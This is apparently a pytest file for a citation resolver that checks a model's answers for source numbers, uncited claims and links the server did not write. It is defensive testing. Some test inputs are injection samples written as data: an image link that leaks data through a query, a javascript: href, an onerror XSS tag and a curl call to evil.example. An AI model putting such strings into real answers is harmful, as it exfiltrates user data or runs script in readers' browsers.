"""Numbers, claims and links of a model's answer."""

import time

import pytest

from pincite.retrieval.answers.citations import Citation
from pincite.retrieval.answers.resolve import Resolved, resolve

SOURCES = [
    Citation(n, f"{n}.md", "l", "#char=0,9", f"quote {n}, see https://pumps.example/manual", 0, 9, 0.5, True)
    for n in (1, 2, 3)
]


def resolved(answer: str) -> Resolved:
    result = resolve(answer, SOURCES)
    for one in result.unresolved:
        assert " ".join(answer[one.start : one.end].split()) == " ".join(one.text.split())
    return result


def listed(answer: str) -> list[tuple[str, str]]:
    return [(one.kind, one.text) for one in resolved(answer).unresolved]


@pytest.mark.parametrize(
    ("brackets", "numbers"),
    [
        ("[2]", (2,)),
        ("[1, 2]", (1, 2)),
        ("[1,2]", (1, 2)),
        ("[1][3]", (1, 3)),
        ("[1] [3]", (1, 3)),
        ("[1-3]", (1, 2, 3)),
        ("[1–3]", (1, 2, 3)),
        ("[1 - 2, 3]", (1, 2, 3)),
        ("[3; 1]", (3, 1)),
        ("[1 and 2]", (1, 2)),
        ("[2, 2]", (2,)),
        ("[02]", (2,)),
        ("[ 2 ]", (2,)),
        ("[source 2]", (2,)),
        ("[Sources 1, 2]", (1, 2)),
        ("[^2]", (2,)),
        ("【2】", (2,)),
        ("\uff3b2\uff3d", (2,)),
        ("[２]", (2,)),
        ("[[2]]", (2,)),
    ],
)
def test_every_way_of_citing_names_its_sources(brackets: str, numbers: tuple[int, ...]) -> None:
    result = resolved(f"The seal leaks {brackets}.")
    assert result.cited == numbers and not result.unresolved


@pytest.mark.parametrize(
    ("brackets", "cited", "fault"),
    [
        ("[4]", (), "no source has the number 4: there are 3 sources"),
        ("[0]", (), "no source has the number 0"),
        ("[1, 9]", (1,), "no source has the number 9"),
        ("[2-5]", (2, 3), "2-5 names more than there is"),
        ("[3-1]", (), "3-1 runs backwards"),
        ("[1-999999999]", (1, 2, 3), "names more than there is"),
        ("[99999999999999999999999999]", (), "no source has the number"),
        ("[2023]", (), "no source has the number 2023"),
    ],
)
def test_a_number_without_a_source_is_reported_and_not_linked(
    brackets: str, cited: tuple[int, ...], fault: str
) -> None:
    result = resolved(f"The seal leaks {brackets}.")
    assert result.cited == cited
    (number,) = [one for one in result.unresolved if one.kind == "number"]
    assert number.text == brackets and fault in number.reason
    assert any(one.kind == "claim" for one in result.unresolved) == (not cited)


@pytest.mark.parametrize("brackets", ["[1, p. 4]", "[1: page 4]", "【1:0†source】"])
def test_what_only_begins_like_a_citation_is_unclear(brackets: str) -> None:
    result = resolved(f"The seal leaks {brackets}.")
    assert not result.cited and ("unclear", brackets) in [(one.kind, one.text) for one in result.unresolved]


@pytest.mark.parametrize("brackets", ["[ERR-4042]", "[x]", "[12 mm]", "[sic]", "\\[1\\]", "[1.5]", "[]"])
def test_other_brackets_are_text(brackets: str) -> None:
    assert listed(f"The seal {brackets} leaks [2].") == []
    assert resolved(f"The seal {brackets} leaks [2].").cited == (2,)


def test_sources_that_do_not_exist_make_all_numbers_wrong() -> None:
    assert [one.kind for one in resolve("It leaks [1].", []).unresolved] == ["claim", "number"]


@pytest.mark.parametrize(
    ("answer", "claims"),
    [
        ("It leaks [1]. It stops. It runs [2].", ["It stops."]),
        ("It leaks. [1] It stops. [2]", []),
        ("It leaks.[1] It stops.", ["It stops."]),
        ("It leaks. [2] says that it stops.", ["It leaks."]),
        ("It leaks.", ["It leaks."]),
        ("It leaks", ["It leaks"]),
        ("Max. 4.5 bar at No. 4, e.g. in winter, says Dr. Smith [1].", []),
        ("“It leaks.” [1] (It stops.)", ["(It stops.)"]),
        ("What leaks? The seal [1]!", []),
        ("## Result\n\n**Summary**\n\nThe causes are:\n\n- dry running [1]\n- cold\n1. wear [2]\n", ["cold"]),
        ("- [x] It leaks [1]\n  and drips.\n- It runs.", ["It runs."]),
        ("> It leaks\n> a lot. It stops [1].", ["It leaks > a lot."]),
        ("| part | price |\n|---|---:|\n| seal | 3 [1] |\n| ring | 4 |", ["| ring | 4 |"]),
        ("泵已停机。[1]水位太低。", ["水位太低。"]),
        ("Насос стоїть [1]. Води немає.", ["Води немає."]),
        ("Title\n=====\n\nIt leaks [1].\n\n---\n", ["Title"]),
        ("The sources do not contain the answer.", []),
        ("None of the sources says so.", []),
        ("[1]", []),
        ("", []),
        ("   \n\n", []),
    ],
)
def test_claims_without_a_number_are_listed(answer: str, claims: list[str]) -> None:
    assert [text for kind, text in listed(answer) if kind == "claim"] == claims


def test_code_holds_neither_citations_nor_claims() -> None:
    answer = "Run this [1]:\n\n```py\nx = rows[9]\nprint(x[2])\n```\n\nThe call `rows[7]` is safe [2].\n"
    assert resolved(answer).cited == (1, 2) and listed(answer) == []
    assert listed("~~~\na[9]\n```\n~~~\nOk [1].") == []


def test_nothing_hides_behind_a_fence_that_is_not_closed() -> None:
    assert ("number", "[9]") in listed("```\nIt leaks [9].")


def test_an_answer_wrapped_in_a_markdown_fence_is_read() -> None:
    assert listed("```markdown\nIt leaks [1]. It stops.\n```") == [("claim", "It stops.")]


@pytest.mark.parametrize(
    ("answer", "link"),
    [
        ("See [the manual](https://evil.example/x) [1].", "[the manual](https://evil.example/x)"),
        ("See [the manual](handbook.pdf#page=3) [1].", "[the manual](handbook.pdf#page=3)"),
        ('See [m](<a b.html> "title") [1].', '[m](<a b.html> "title")'),
        ("![](https://evil.example/?q=secret) It leaks [1].", "![](https://evil.example/?q=secret)"),
        ("It leaks [1] https://evil.example/a_(b).", "https://evil.example/a_(b)"),
        ("It leaks [1] (www.evil.example).", "www.evil.example"),
        ("It leaks [1], see evil.com/path.", "evil.com/path"),
        ("It leaks [1] <https://evil.example>.", "https://evil.example"),
        ("It leaks [1] <a href='javascript:alert(1)'>here</a>.", "<a href='javascript:alert(1)'>"),
        ("It leaks [1] <img src=x onerror=y>.", "<img src=x onerror=y>"),
        ("It leaks [1] mailto:a@b.c", "mailto:a@b.c"),
        ("It leaks [1].\n\n[1]: https://evil.example", "[1]: https://evil.example"),
        ("It leaks [1].\n\n```\ncurl https://evil.example\n```", "https://evil.example"),
    ],
)
def test_links_that_the_server_did_not_write_are_listed(answer: str, link: str) -> None:
    assert listed(answer) == [("link", link)]
    assert resolved(answer).cited == (1,)


def test_a_number_that_the_model_made_a_link_still_names_its_source() -> None:
    result = resolved("It leaks [2](https://evil.example).")
    assert result.cited == (2,) and [one.kind for one in result.unresolved] == ["link"]
    assert resolved("It leaks ![2](https://evil.example/p.png).").cited == ()


def test_a_link_says_when_a_source_holds_its_address() -> None:
    (link,) = resolved("It leaks, https://pumps.example/manual [1].").unresolved
    assert "stands in source 1, 2, 3" in link.reason


@pytest.mark.parametrize(
    "honest", ["It needs 4.5 bar at handbook.pdf [1].", "At 12:30 it is node.on [1].", "data: 3 [1]"]
)
def test_names_and_numbers_are_no_links(honest: str) -> None:
    assert listed(honest) == []


@pytest.mark.parametrize(
    "answer",
    [
        "[" * 20_000,
        "[1](" * 5_000,
        "`" * 20_001 + "a",
        "` `` " * 4_000,
        "It leaks [1]. " * 3_000,
        "a." * 20_000,
        "<a " * 8_000,
        "![" * 8_000,
        "| a " * 8_000,
        "x\n" * 10_000,
        "```\n" * 5_000,
    ],
)
def test_long_answers_take_no_long_time(answer: str) -> None:
    start = time.process_time()
    resolve(answer, SOURCES)
    assert time.process_time() - start < 3
